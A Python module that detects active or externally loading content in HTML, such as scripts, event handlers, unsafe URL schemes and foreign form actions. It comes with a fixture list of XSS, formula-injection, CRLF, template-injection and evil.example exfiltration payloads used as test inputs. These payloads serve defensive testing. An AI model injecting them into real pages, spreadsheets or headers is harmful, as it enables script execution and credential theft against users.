"""Whether HTML holds anything that acts, loads from elsewhere or leads away, beside what our layout brings itself."""

import re
from html.parser import HTMLParser
from typing import Any

ACTING = frozenset("iframe frame object embed applet base style math foreignobject animate set animatemotion portal".split())
LINKS = frozenset("href src action formaction xlink:href data srcdoc srcset poster background cite ping manifest".split())
SCHEME = re.compile(r"^[\x00-\x20]*([a-z][a-z0-9+.\-\s]*):", re.IGNORECASE)
GOOD_SCHEMES = frozenset({"http", "https", "mailto", "tel"})
LOADS = frozenset({"src", "srcset", "poster", "background", "data"})

FIXTURE = (
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "'-alert(1)-'", "</title><script>alert(1)</script>",
    "</textarea><svg/onload=alert(1)>", "<a href='javascript:alert(1)'>x</a>", "[x](javascript:alert(1))", "[x](JaVa\tScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](vbscript:msgbox)", "![x](https://evil.example/track.png)", "![x](//evil.example/t.png)",
    "<iframe src=javascript:alert(1)>", "<math><mtext></p><img src=x onerror=alert(1)>", "<style>@import '//evil.example'</style>",
    "<form action=//evil.example><input name=password>", "<base href=//evil.example>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}", "<x onclick=alert(1) style='position:fixed;inset:0'>", "``` \"onclick=alert(1) x=\"\nx\n```",
    "<https://x.example/\"onmouseover=\"alert(1)>", "https://x.example/'\"><svg onload=alert(1)>", "<!--><img src=x onerror=alert(1)>-->",
    "@[<img src=x onerror=alert(1)>](0000000000000000000000)", "<svg><animate onbegin=alert(1)>",
    "\u202egnp.exe", "a\x00<b\x00>b", "../../x",
    "__proto__", "constructor", "=cmd|' /C calc'!A0", "x\r\nSet-Cookie: a=b", "javascript:alert(1)", "\ufeff<script>1</script>",
)  # fmt: skip


def alive(html: str, *, page: bool = True) -> list[str]:
    """What in a page acts, one line each; `page` False: a fragment, in which not even our own scripts belong."""
    judge = _Judge(page)
    judge.feed(html)
    judge.close()
    return judge.found


class _Judge(HTMLParser):
    def __init__(self, page: bool) -> None:
        super().__init__()
        self.page, self.found = page, list[str]()
        self._script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        told: dict[str, Any] = {name.lower(): value or "" for name, value in attrs}
        self._script = tag == "script"
        if tag in ACTING or (tag == "meta" and "http-equiv" in told) or (tag == "template" and not self.page):
            self.found.append(f"<{tag}>")
        if tag in ("script", "link") and not (self.page and _ours(told)):
            self.found.append(f"<{tag} {told}>")
        for name, value in told.items():
            if name.startswith("on") or name in {"style", "srcdoc"} or (name in LINKS and _leads_astray(tag, name, value)):
                self.found.append(f"<{tag} {name}={value!r}>")

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag: str) -> None:
        self._script = False

    def handle_data(self, data: str) -> None:
        if self._script and data.strip():
            self.found.append(f"a script that says {data[:60]!r}")


def _ours(told: dict[str, Any]) -> bool:
    source = told.get("src") or told.get("href") or ""
    return source.startswith("/") and not source.startswith("//") and not source.startswith("/\\")


def _leads_astray(tag: str, name: str, value: str) -> bool:
    plain = re.sub(r"[\x00-\x20]", "", value)
    found = SCHEME.match(value) or SCHEME.match(plain)
    if found and re.sub(r"\s", "", found[1]).lower() not in GOOD_SCHEMES:
        return not (tag == "img" and name == "src" and plain.startswith("data:image/"))
    elsewhere = bool(found) or plain.startswith(("//", "/\\", "\\"))
    return elsewhere and (name in LOADS or name in ("action", "formaction"))
